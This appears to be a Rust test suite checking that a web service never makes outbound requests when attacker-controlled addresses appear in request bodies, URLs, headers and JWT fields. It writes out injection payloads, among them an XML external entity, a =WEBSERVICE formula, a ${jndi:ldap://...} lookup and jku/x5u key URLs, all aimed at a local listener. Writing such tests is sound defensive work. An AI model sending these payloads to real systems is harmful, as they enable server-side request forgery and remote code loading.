//! Requests that should make the service ask somebody else: an address of a listener stands wherever a caller can write something.
//! Nobody ever connects to it.

use std::io::ErrorKind;
use std::net::TcpListener;

use serde_json::{Value, json};

use super::{fields_of, places, schema_of, start};
use crate::sign_in;
use crate::support::document::operations;

/// Somebody whom the service must not ask.
struct Listener(TcpListener);

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn addresses(&self) -> Vec<String> {
        let at = self.0.local_addr().unwrap();
        vec![
            format!("http://{at}/x"),
            format!("https://{at}/x"),
            format!("//{at}/x"),
            format!("{at}"),
            format!("ftp://{at}/x"),
            format!("<!DOCTYPE x [<!ENTITY y SYSTEM \"http://{at}/x\">]>"),
            format!("=WEBSERVICE(\"http://{at}/x\")"),
            format!("${{jndi:ldap://{at}/x}}"),
        ]
    }

    #[track_caller]
    fn was_not_asked(&self) {
        let asked = self.0.accept().map(|(_, from)| from).map_err(|error| error.kind());
        assert_eq!(asked, Err(ErrorKind::WouldBlock), "somebody connected");
    }
}

#[test]
fn the_listener_notices_who_asks_it() {
    let listener = Listener::start();
    listener.was_not_asked();
    let _asking = std::net::TcpStream::connect(listener.0.local_addr().unwrap()).unwrap();
    assert!(listener.0.accept().is_ok());
}

#[test]
fn no_text_of_any_body_is_an_address_to_the_service() {
    let (_app, admin, id) = start();
    let listener = Listener::start();
    let mut tried = 0;
    for operation in operations() {
        let Some(example) = operation.example() else { continue };
        let mut pointers = places(example, Value::is_string);
        let optional = fields_of(schema_of(&operation)).into_iter().map(|(name, _)| format!("/{name}"));
        pointers.extend(optional.filter(|pointer| example.pointer(pointer).is_none()));
        let with = |pointers: &[String], from: usize| {
            let mut body = example.clone();
            for (at, pointer) in pointers.iter().enumerate() {
                let address = json!(listener.addresses()[(from + at) % 8]);
                match body.pointer_mut(pointer) {
                    Some(place) => *place = address,
                    None => body[&pointer[1..]] = address,
                }
            }
            body.to_string()
        };
        // Each field alone, so that nothing else refuses the body; then all of them, each with another form of address.
        for pointer in &pointers {
            operation.try_body(&admin, &id, with(std::slice::from_ref(pointer), 0));
            tried += 1;
        }
        operation.try_body(&admin, &id, with(&pointers, tried));
    }
    assert!(tried > 200, "only {tried} bodies were tried");
    listener.was_not_asked();
}

#[test]
fn nor_is_what_stands_in_addresses_and_headers() {
    let (_app, admin, _) = start();
    let listener = Listener::start();
    for address in listener.addresses() {
        let encoded: String = form_urlencoded::byte_serialize(address.as_bytes()).collect();
        for path in
            [format!("measures/{encoded}"), format!("measures?framework={encoded}"), format!("changes?actor={encoded}")]
        {
            admin.get(&path).call();
        }
        for header in
            ["X-Forwarded-Host", "Forwarded", "Referer", "Origin", "X-Original-URL", "X-Rewrite-URL", "Link", "Accept"]
        {
            admin.get("measures?limit=1").header(header, &address).call();
        }
    }
    listener.was_not_asked();
}

#[test]
fn nor_is_what_a_token_says_of_its_key() {
    let (issuer, app) = sign_in::start();
    let listener = Listener::start();
    for address in listener.addresses() {
        for header in [
            json!({"alg": "RS256", "kid": address}),
            json!({"alg": "RS256", "kid": sign_in::key().id, "jku": address, "x5u": address}),
            json!({"alg": "RS256", "kid": "unknown", "jku": address, "x5u": address, "x5c": [address]}),
        ] {
            let claims = issuer.claims_with(json!({"iss": address}));
            app.anonymous().with_key(&sign_in::key().token_with(&header, &claims)).get("measures").call().must_be(401);
            let claims = issuer.claims_with(json!({"picture": address, "jwks_uri": address}));
            app.anonymous().with_key(&sign_in::key().token_with(&header, &claims)).get("measures").call();
        }
    }
    listener.was_not_asked();
}
